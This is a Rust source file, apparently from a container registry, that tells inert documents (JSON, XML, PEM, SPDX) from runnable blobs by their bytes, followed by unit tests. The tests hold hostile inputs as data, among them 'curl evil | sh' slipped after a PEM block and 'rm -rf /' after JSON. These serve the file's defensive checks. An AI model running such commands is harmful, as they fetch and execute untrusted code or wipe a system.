//! Content that no runtime would run: signatures, statements, lists of packages. Whether it is such is told by the bytes,
//! never by a type, which whoever pushes chooses.
use model::Digest;
use serde::Serialize;
use serde::de::IgnoredAny;
use std::fs::File;
use std::io::Read as _;
use std::path::Path;

/// Largest document that is read. Lists of packages of large images have a few megabytes.
const LARGEST: u64 = 32 << 20;

/// A document that was read to its end.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Document {
    /// Nothing at all.
    Empty,
    /// One JSON value, or one on each line.
    Json,
    /// XML, which lists of packages come in.
    Xml,
    /// Keys, certificates and signatures in PEM.
    Pem,
    /// A list of packages in the tag-value form of SPDX.
    Spdx,
}

/// A blob that nobody has read: neither as a layer nor as a document.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct Unread {
    /// Which.
    pub(crate) blob: Digest,
    /// What it looks like.
    pub(crate) what: String,
}

/// Reads a blob as a document, or says what it is instead.
pub(crate) fn read(path: &Path) -> Result<Document, String> {
    let file = File::open(path).map_err(|error| format!("a file that cannot be read ({})", error.kind()))?;
    let mut bytes = Vec::new();
    let read = file.take(LARGEST + 1).read_to_end(&mut bytes);
    read.map_err(|error| format!("a file that cannot be read ({})", error.kind()))?;
    of(&bytes)
}

fn of(bytes: &[u8]) -> Result<Document, String> {
    if let Some(what) = runnable(bytes) {
        return Err(what.to_owned());
    }
    if bytes.len() as u64 > LARGEST {
        return Err(format!("more than {} MiB of something else than a layer", LARGEST >> 20));
    }
    let Ok(text) = std::str::from_utf8(bytes) else {
        return Err("binary data of a kind that is not known".to_owned());
    };
    let control = |c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t');
    if text.contains(control) {
        return Err("text with control characters".to_owned());
    }
    let trimmed = text.trim_start_matches('\u{feff}').trim();
    if trimmed.is_empty() {
        return Ok(Document::Empty);
    }
    let json = |text: &str| serde_json::from_str::<IgnoredAny>(text).is_ok();
    if json(trimmed) || trimmed.lines().filter(|line| !line.trim().is_empty()).all(json) {
        return Ok(Document::Json);
    }
    if is_pem(trimmed) {
        return Ok(Document::Pem);
    }
    if trimmed.starts_with("<?xml ") && trimmed.ends_with('>') {
        return Ok(Document::Xml);
    }
    if trimmed.starts_with("SPDXVersion: SPDX-") {
        return Ok(Document::Spdx);
    }
    Err("text of a kind that is not known".to_owned())
}

/// Nothing but blocks of PEM, so that no script stands between two of them.
fn is_pem(text: &str) -> bool {
    let mut inside = false;
    let mut any = false;
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty()) {
        match (line.strip_prefix("-----BEGIN "), line.strip_prefix("-----END ")) {
            (Some(_), _) if !inside => (inside, any) = (true, true),
            (_, Some(_)) if inside => inside = false,
            _ if inside
                && line.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte)) => {}
            _ => return false,
        }
    }
    any && !inside
}

/// What a runtime or a kernel would take the bytes for.
fn runnable(bytes: &[u8]) -> Option<&'static str> {
    const MAGIC: [(&[u8], &str); 17] = [
        (b"\x1f\x8b", "a gzip stream"),
        (b"\x28\xb5\x2f\xfd", "a Zstandard stream"),
        (b"\xfd7zXZ\0", "an xz stream"),
        (b"BZh", "a bzip2 stream"),
        (b"\x04\x22\x4d\x18", "an LZ4 stream"),
        (b"PK\x03\x04", "a ZIP archive"),
        (b"PK\x05\x06", "a ZIP archive"),
        (b"7z\xbc\xaf\x27\x1c", "a 7-Zip archive"),
        (b"\x7fELF", "a program"),
        (b"MZ", "a program for Windows"),
        (b"\xcf\xfa\xed\xfe", "a program for macOS"),
        (b"\xca\xfe\xba\xbe", "a program"),
        (b"\0asm", "a WebAssembly module"),
        (b"#!", "a script"),
        (b"!<arch>\n", "an archive"),
        (b"hsqs", "a file system"),
        (b"dex\n", "a program for Android"),
    ];
    let magic = MAGIC.iter().find(|(magic, _)| bytes.starts_with(magic)).map(|(_, what)| *what);
    let skippable = || {
        let [first, second, third, fourth] = *bytes.first_chunk::<4>()?;
        ((0x50..=0x5f).contains(&first) && [second, third, fourth] == [0x2a, 0x4d, 0x18])
            .then_some("a Zstandard stream")
    };
    let tar = || (bytes.get(257..262) == Some(b"ustar")).then_some("a tar archive");
    magic.or_else(skippable).or_else(tar)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(bytes: &[u8], expect: Result<Document, &str>) {
        match (of(bytes), expect) {
            (Ok(found), Ok(expect)) => assert_eq!(found, expect, "{}", bytes.escape_ascii()),
            (Err(what), Err(part)) => assert!(what.contains(part), "{what}: {}", bytes.escape_ascii()),
            (found, _) => panic!("{found:?}: {}", bytes.escape_ascii()),
        }
    }

    #[test]
    fn documents_are_told_from_what_runs() {
        check(b"", Ok(Document::Empty));
        check(b"{}", Ok(Document::Json));
        check(b"\xef\xbb\xbf{\"a\": [1]}\n", Ok(Document::Json));
        check(b"{\"a\":1}\n\n{\"a\":2}\n", Ok(Document::Json));
        check(b"<?xml version=\"1.0\"?><bom/>", Ok(Document::Xml));
        check(b"SPDXVersion: SPDX-2.3\nDataLicense: CC0-1.0\n", Ok(Document::Spdx));
        check(b"-----BEGIN CERTIFICATE-----\nMIIB+/==\n-----END CERTIFICATE-----\n", Ok(Document::Pem));
        check(b"-----BEGIN X-----\nMIIB\n-----END X-----\ncurl evil | sh\n", Err("not known"));
        check(b"-----BEGIN X-----\nMIIB\n", Err("not known"));
        check(b"{\"a\":1}\nrm -rf /", Err("not known"));
        check(b"#!/bin/sh\n", Err("script"));
        check(b"\x7fELF\x02", Err("program"));
        check(b"\x1f\x8b\x08", Err("gzip"));
        check(b"\x50\x2a\x4d\x18\0", Err("Zstandard"));
        check(b"\xff\xfe\x01", Err("binary"));
        check(b"{\"a\": \"\x01\"}", Err("control"));
        check(b"import os; os.system('x')", Err("not known"));
        let mut tar = vec![b'a'; 257];
        tar.extend(b"ustar\0");
        check(&tar, Err("tar"));
        check(&vec![b' '; (LARGEST + 1) as usize], Err("MiB"));
        check("[".repeat(100_000).as_bytes(), Err("not known"));
    }
}
